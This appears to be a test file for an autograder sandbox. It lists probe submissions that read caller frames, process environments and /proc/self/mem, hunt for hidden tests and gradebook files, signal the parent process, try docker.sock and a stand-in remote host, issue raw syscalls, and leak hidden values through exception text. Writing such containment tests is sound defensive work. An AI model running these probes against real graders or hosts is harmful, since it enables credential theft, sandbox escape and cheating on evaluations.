"""Looking around, and carrying what was seen outside."""

from submissions import MARK, Attack, in_calls, in_cell

FRAMES = """
import sys
frame = sys._getframe()
while frame is not None:
    SEEN.append(repr(frame.f_locals)[:2000] + str(frame.f_globals.get('__file__')))
    frame = frame.f_back
return 0.0, 0.0 * W
"""
KEEP = "SEEN.append((W.copy(), X.copy(), y.copy(), reg))\n"
TELL = " ".join(f"{{SEEN[-1][0].ravel()[{k}]:.6g}}" for k in range(3))


ATTACKS: list[Attack] = [
    in_calls("frames", "reads the variables of all its callers", FRAMES, "SEEN = []",),
    in_cell("garbage", "searches everything in memory for hidden tests",
         "import gc\ntexts = [o for o in gc.get_objects() if isinstance(o, (str, bytes, list, dict, tuple))]\n"
         "held = [w for w in ('BEGIN HIDDEN' + ' TESTS', 'checks.' + 'run(', 'misconcep' + 'tion') if any(type(o) is dict and any(type(v) is str and w in v for v in o.values()) for o in texts)]\n"
         "print('fired', len(texts) > 1000, 'found', held)", r"fired (True|False) found \[\]"),
    in_cell("processes", "looks at other processes", "import os\npids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
         "print('fired', pids, os.getppid(), os.path.exists('/.proc/1'), os.access('/.proc', os.R_OK) and os.listdir('/.proc'))\n"
         "for pid in range(2, 50):\n    try: print('escaped', open(f'/proc/{pid}/environ').read())\n    except OSError: pass", r"fired \['1'\] 0 False"),
    in_cell("environment", "reads the environment", "import os\nprint('fired', sorted(os.environ))\nprint(open('/proc/self/environ').read() and 'read')", "fired .*PYTHONHASHSEED"),
    in_cell("siblings", "looks for the work of others and for the gradebook",
         "import os, sys\nfound = []\nfor top in ('/home', '/root', '/tmp', '/srv', '/mnt', '/run', '/var', '/work', '/opt'):\n    for place, folders, files in os.walk(top):\n"
         "        if place.count('/') > 6 or place.startswith(sys.prefix): folders.clear(); continue\n"
         "        found += [f for f in files if f in ('gradebook.db', '.secret', 'result.json') or f.endswith('.ipynb')]\nprint('fired', found)", r"fired \[\]"),
    in_cell("zygote", "signals and slows the process that it was forked from",
         "import os, signal\ndone = []\nfor pid in (0, 2, 3, -1):\n    for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):\n"
         "        try: os.kill(pid, number); done.append((pid, number))\n        except OSError: pass\n"
         "for which in (os.PRIO_PGRP, os.PRIO_USER):\n    try: os.setpriority(which, 0, 19)\n    except OSError: done.append('refused')\n"
         "print('fired', os.getpgrp() == os.getsid(0) == os.getpid(), done)", "fired True .*refused"),
    in_cell("zygote_held", "looks for descriptors that the zygote left open",
         "import os\nopen_files = {}\nfor n in range(256):\n    try: open_files[n] = os.readlink(f'/proc/self/fd/{n}').split(':')[0]\n    except OSError: pass\nprint('fired', open_files)",
         r"fired \{0: '/dev/null', 1: '/dev/null', 2: '/dev/null', 3: 'socket'\}"),
    in_cell("left_behind", "leaves a message for the next one in memory, files, modules and shared memory",
         "import os, numpy as np, sys\nnp.left_behind = sys.left_behind = 'escaped'\nheap = [np.full(2**17, 0x5ec0de) for _ in range(20)]\ndel heap\nleft = 0\n"
         "for place in ('/tmp', '/home', '/run', '/dev/shm', '/var/tmp', '/usr', '.', '/proc'):\n"
         "    try: open(place + '/escaped', 'w').write('answer'); left += 1\n    except OSError: pass\nprint('fired', left)", r"fired \d"),
    in_cell("leftovers", "looks for what others left in memory, files and modules",
         "import os, numpy as np, sys\nfresh = [np.empty(2**17) for _ in range(50)]\nprint('fired', any((f.view(np.int64) == 0x5ec0de).any() for f in fresh), hasattr(np, 'left_behind'),\n"
         "      hasattr(sys, 'left_behind'), [os.path.exists(p + '/escaped') for p in ('/tmp', '/home', '/run', '/dev/shm')])",
         r"fired False False False \[False, False, False, False\]"),
    in_cell("hidden_modules", "looks for the grader's modules",
         "import os, sys, glob, importlib.util\nours = sorted(m for m in sys.modules if m.startswith('autograder'))\n"
         "print('fired', ours, [importlib.util.find_spec(m) for m in ('nbgrader_config',)], [at for place in (*sys.path, sys.prefix + '/lib/python3*/site-packages') for at in glob.glob(place + '/*/checks/svm_gradient*')],\n"
         "      glob.glob('/**/svm_gradient.ipynb'))", r"fired \['autograder', 'autograder\.wall', 'autograder\.wall\.inside', .*\] \[None\] \[\] \[\]"),
    in_cell("network", "sends what it knows to somebody",
         "import socket\nfor family, address in ((socket.AF_INET, ('127.0.0.1', 22)), (socket.AF_INET, ('192.0.2.1', 80)), (socket.AF_INET6, ('::1', 80)),\n"
         "                        (socket.AF_UNIX, '\\0escaped'), (socket.AF_UNIX, '/run/dbus/system_bus_socket'), (socket.AF_UNIX, '/var/run/docker.sock')):\n"
         "    try: socket.socket(family, socket.SOCK_STREAM).connect(address); print('escaped')\n    except OSError as error: print('fired', type(error).__name__)\n"
         "try: socket.getaddrinfo('example.org', 80); print('escaped')\nexcept OSError: print('fired')\n"
         "for kind in (16, 17, 38, 40): \n    try: socket.socket(kind, socket.SOCK_RAW); print('escaped')\n    except OSError: pass", "fired PermissionError"),
    in_cell("other_doors", "opens devices, namespaces, keys and kernel interfaces",
         "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor number in (165, 272, 308, 101, 310, 321, 298, 425, 250, 248, 319, 29, 206, 253, 294, 141, 144, 203, 303, 435):\n"
         "    if libc.syscall(number, 0, 0, 0, 0, 0, 0) >= 0 : print('escaped', number)\n"
         "for path in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/sys/kernel', '/proc/kcore', '/proc/sys/kernel/hostname', '/proc/sysrq-trigger'):\n"
         "    if os.path.exists(path): print('escaped', path)\nprint('fired')"),
    Attack("told_by_exceptions", "tells hidden numbers in the text of an exception", "raised", (), """
def {0}(W, X, y, reg):
    raise ValueError('raised ' + ' '.join(f'{v:.6g}' for v in W.ravel()[:3]))
"""),
    Attack("told_by_types", "tells hidden numbers in the name of an exception's type", "raised_", (), """
def {0}(W, X, y, reg):
    raise type('raised_' + '_'.join(f'{v:.6g}' for v in W.ravel()[:3]), (Exception,), {})('raised_')
"""),
    Attack("told_by_results", "tells hidden numbers in what it returns: types, texts, shapes", "fired", (MARK, "SEEN = []"), """
def {0}(W, X, y, reg):
    FIRED.append('{0}')
    name = ' '.join(f'{v:.6g}' for v in W.ravel()[:3])
    return type(name, (), {})(), name
""", last="print('fired', len(FIRED))"),
    in_cell("own_memory", "searches its whole memory for hidden tests",
         "import re\nmaps, found, seen = open('/proc/self/maps').read(), 0, 0\nword = re.compile(rb'BEGIN[ ]HIDDEN[ ]TESTS|is[_]gradient[_]of[_]a[_]charged')\n"
         "with open('/proc/self/mem', 'rb', 0) as memory:\n    for start, end in re.findall(r'^(\\w+)-(\\w+) rw', maps, re.M):\n"
         "        start, end = int(start, 16), int(end, 16)\n        try:\n            memory.seek(start); data = memory.read(min(end - start, 2**22))\n"
         "        except (OSError, ValueError, OverflowError): continue\n        seen += len(data); found += bool(word.search(data))\nprint('fired', seen > 10**6, found)", "fired True 0"),
    # What fails when it has seen hidden numbers is asked again where it has seen none, so that its text says nothing.
    Attack("told_by_later_cells", "keeps hidden numbers and tells them by a cell of its own that fails", r"fired \[\]", ("SEEN = []",),
           "def {0}(W, X, y, reg):\n    " + KEEP + "    return 0.0, 0.0 * W\n",
           last=f"if not SEEN: raise ValueError('fired []')\nraise ValueError(f'{TELL}')"),
    Attack("told_by_a_failing_answer", "keeps hidden numbers and tells them by an answer that fails", r"fired \[\]", ("SEEN = []",),
           "def {0}(W, X, y, reg):\n    " + KEEP + "    return 0.0, 0.0 * W\n",
           answers={"svm_loss_vectorized": f"if not SEEN: raise ValueError('fired []')\nraise ValueError(f'{TELL}')"}),
]  # fmt: skip
